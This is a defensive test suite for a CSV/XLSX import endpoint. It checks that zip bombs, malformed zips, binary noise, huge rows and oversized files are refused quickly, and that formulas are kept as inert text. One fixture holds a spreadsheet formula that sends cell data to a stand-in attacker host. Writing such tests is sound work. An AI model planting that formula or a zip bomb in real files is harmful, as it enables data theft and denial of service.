import { seedApprovedProject } from '../support/api-fixtures.js';
import { expectRefusal } from '../support/refusal.js';
import { seededRandom } from '../support/seeded-random.js';
import { XLSX, xlsxOf, zipOf } from '../support/spreadsheets.js';
import { startTestApp, type TestApp } from '../support/test-app.js';

/** Every hostile file is refused fast: well within this, on a loaded two-core machine. */
const FAST_MS = 5000;
/**
 * A file of 100,001 rows is read to its last row before it is refused: 1.7 s alone on this
 * two-core machine, 7.4 s once with the whole suite running beside it. Applying its rows
 * would take minutes; that is what this bound tells apart.
 */
const READ_WHOLE_MS = 20_000;

describe('hostile files sent to POST /api/imports', () => {
  let app: TestApp;

  beforeAll(async () => {
    app = await startTestApp();
    await seedApprovedProject(app);
  });

  afterAll(() => app.close());

  const upload = (file: string | Buffer, contentType = 'text/csv', kind = 'participants') =>
    app.send('POST', `/api/imports?kind=${kind}`, file, { 'content-type': contentType });

  const refusedFast = async (
    file: string | Buffer,
    contentType: string,
    status: number,
    rule: RegExp,
    withinMs = FAST_MS,
  ) => {
    const head = await app.head();
    const started = performance.now();
    await expectRefusal(app, () => upload(file, contentType), status, rule);
    expect(performance.now() - started).toBeLessThan(withinMs);
    expect(await app.head()).toBe(head);
  };

  it('refuses an XLSX zip bomb by the size its directory declares, expanding nothing', async () => {
    const sheet = Buffer.from('<worksheet><sheetData></sheetData></worksheet>');
    const bomb = zipOf([{ name: 'xl/worksheets/sheet1.xml', data: sheet, declaredSize: 4_000_000_000 }]);
    expect(bomb.length).toBeLessThan(1024);
    await refusedFast(bomb, XLSX, 413, /expands to more than 256 MiB/);
  });

  it('refuses an XLSX whose entry expands beyond what its directory declares', async () => {
    const lying = zipOf([
      { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(8 * 1024 * 1024, 0x20), declaredSize: 100 },
    ]);
    await refusedFast(lying, XLSX, 400, /not a readable XLSX file/);
  });

  it('refuses bytes that are no spreadsheet: random bytes, NUL bytes, a CSV sent as XLSX', async () => {
    // The same noise on every run, so that a failure replays.
    const random = seededRandom(64);
    const noise = Buffer.from(Array.from({ length: 64 * 1024 }, () => random.int(0, 255)));
    await refusedFast(noise, 'text/csv', 400, /not a text file/);
    await refusedFast(Buffer.from('id;role;registeredJobSeeker\np-1\u0000;citizen;oui\n'), 'text/csv', 400, /U\+0000/);
    await refusedFast('id;role;registeredJobSeeker\np-1;citizen;oui\n', XLSX, 400, /not a readable XLSX file/);
  });

  it('refuses a row of a million columns, naming its line', async () => {
    const file = `id;role;registeredJobSeeker\np-1;citizen;oui${';x'.repeat(1_000_000)}\n`;
    await refusedFast(file, 'text/csv', 400, /line 2: has 1000003 cells/);
  });

  it('refuses 100,001 rows (413) before applying any', async () => {
    const file = `id;role;registeredJobSeeker\n${'p-1;citizen;oui\n'.repeat(100_001)}`;
    await refusedFast(file, 'text/csv', 413, /at most 100,000 rows/, READ_WHOLE_MS);
  });

  it('refuses a file beyond 20 MiB (413), a body of another type (415), a spreadsheet on another route (415)', async () => {
    await refusedFast(Buffer.alloc(21 * 1024 * 1024, 0x61), 'text/csv', 413, /too large/);
    await refusedFast('{"id":"p-1"}', 'application/json', 415, /text\/csv or application\/vnd/);
    await expectRefusal(
      app,
      () => app.send('POST', '/api/participants', 'id,role\np-1,citizen\n', { 'content-type': 'text/csv' }),
      415,
      /POST \/api\/imports only/,
    );
  });

  it('keeps formulas as text and never evaluates them', async () => {
    const file = await xlsxOf([
      ['id', 'role', 'registeredJobSeeker'],
      [{ formula: 'WEBSERVICE("http://attacker.example/?"&A1)', result: 'p-9' }, 'citizen', true],
    ]);
    const answer = await upload(file, XLSX);
    expect(answer.body.summary).toEqual({ new: 0, repeat: 0, refused: 1 });
    expect(JSON.stringify(answer.body)).toContain('id must match');
    const csvFormula = await upload('id;role;registeredJobSeeker\n=1+1;citizen;oui\n');
    expect(csvFormula.body.summary).toEqual({ new: 0, repeat: 0, refused: 1 });
  });

  it('writes each row once when the same file is imported twice at once', async () => {
    const rows = Array.from({ length: 200 }, (_, i) => `dm-01;p-twice-${i};citizen;non`);
    const file = `sessionId;participantId;role;registeredJobSeeker\n${rows.join('\n')}\n`;
    const head = (await app.head())!;

    const answers = await Promise.all([
      upload(file, 'text/csv', 'attendances'),
      upload(file, 'text/csv', 'attendances'),
    ]);

    const news = answers.map((answer) => (answer.body.summary as { new: number }).new);
    expect(answers.map((answer) => (answer.body.summary as { refused: number }).refused)).toEqual([0, 0]);
    expect(news[0]! + news[1]!).toBe(200);
    // 200 registrations, 200 attendances, and one ImportRecorded for each import that wrote rows.
    const recorded = news.filter((count) => count > 0).length;
    expect((await app.head())! - head).toBe(BigInt(400 + recorded));
  });
});
